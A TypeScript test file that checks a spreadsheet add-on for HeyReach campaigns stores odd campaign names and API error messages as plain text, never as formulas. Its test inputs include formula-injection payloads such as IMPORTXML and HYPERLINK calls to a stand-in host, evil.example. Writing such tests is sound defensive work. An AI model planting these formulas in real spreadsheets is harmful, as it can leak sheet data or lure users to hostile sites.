/** Whatever a campaign is called, or HeyReach says, rows are known again and nothing becomes a formula. */
import { createFakeHeyReach } from '../../workbench/fake-heyreach/create-fake-heyreach'
import { ADD_ROUTE, addRequest, connectedSheet, ledgerAgrees, PAUSED, pressAdd, pressStop, RUNNING, stopRequest } from './support/adding'
import { manyLeads } from './support/sheet'

const called = (name: string) => {
  const data = JSON.parse(JSON.stringify(createFakeHeyReach().toJson())) as unknown
  const rename = (value: unknown): void => {
    if (typeof value !== 'object' || value === null) return
    const one = value as Record<string, unknown>
    if (one['id'] === RUNNING && typeof one['name'] === 'string') one['name'] = name
    Object.values(one).forEach(rename)
  }
  rename(data)
  return connectedSheet({ rows: manyLeads(3), heyreach: { data } })
}

it.each([
  ['a formula', '=HYPERLINK("http://evil.example","click")'],
  ['another campaign’s number', `x #${PAUSED}`],
  ['a number like an id', 'Acme #5'],
  ['line breaks and tabs', 'Acme\r\n\tDACH\u2028 #1\n'],
  ['right-to-left marks', '\u202Eסיכום #7 \u200F'],
  ['nothing but blanks', '   '],
  ['10,000 characters', 'ab '.repeat(3_333)],
  ['60,000 characters', 'ab '.repeat(20_000)],
  ['a number', '2026'],
  ['an apostrophe', "'tis"],
  ['zero-width signs', '\uFEFFAcme\u200B'],
])('a campaign called %s', (_, name) => {
  const sheet = called(name)
  const first = pressAdd(sheet, addRequest(sheet, RUNNING))
  expect(first.state.added).toBe(3)
  expect(sheet.column('HeyReach status')).toEqual(['In campaign', 'In campaign', 'In campaign'])
  expect(sheet.column('HeyReach campaign').every((text) => text.endsWith(`#${RUNNING}`))).toBe(true)
  const cells = Array.from({ length: sheet.tab.lastColumn() }, (_cell, column) => sheet.tab.cell(2, column + 1)?.formula)
  expect(cells.filter((formula) => formula !== undefined)).toEqual([])
  expect(pressAdd(sheet, addRequest(sheet, RUNNING)).preview?.people).toEqual([])
  expect(pressStop(sheet, stopRequest(sheet, { kind: 'row' })).state.results.map(({ outcome }) => outcome)).toEqual(['stopped', 'stopped', 'stopped'])
  sheet.menu('refreshCampaigns')
  const tab = sheet.book.tabByName('Campaigns')
  for (let row = 1; row <= (tab?.lastRow() ?? 0); row += 1) expect(tab?.cell(row, 1)?.formula).toBeUndefined()
  expect(ledgerAgrees(sheet, RUNNING)).toEqual([])
})

it.each(['=IMPORTXML("http://evil.example","//a")', '+1', '-2', '@x', 'a\nb', '2026-09-14'])('HeyReach refusing with %j is text in the row', (errorMessage) => {
  const sheet = connectedSheet({ rows: manyLeads(2) })
  sheet.heyreach.addFault({ route: ADD_ROUTE, leads: ['https://www.linkedin.com/in/person-0-demo'], effect: { status: 400, body: JSON.stringify({ errorMessage }) } })
  pressAdd(sheet, addRequest(sheet, RUNNING))
  expect([6, 7, 8].map((column) => sheet.tab.cell(2, column)?.formula)).toEqual([undefined, undefined, undefined])
  expect(sheet.column('HeyReach status')).toEqual(['Failed', 'In campaign'])
})
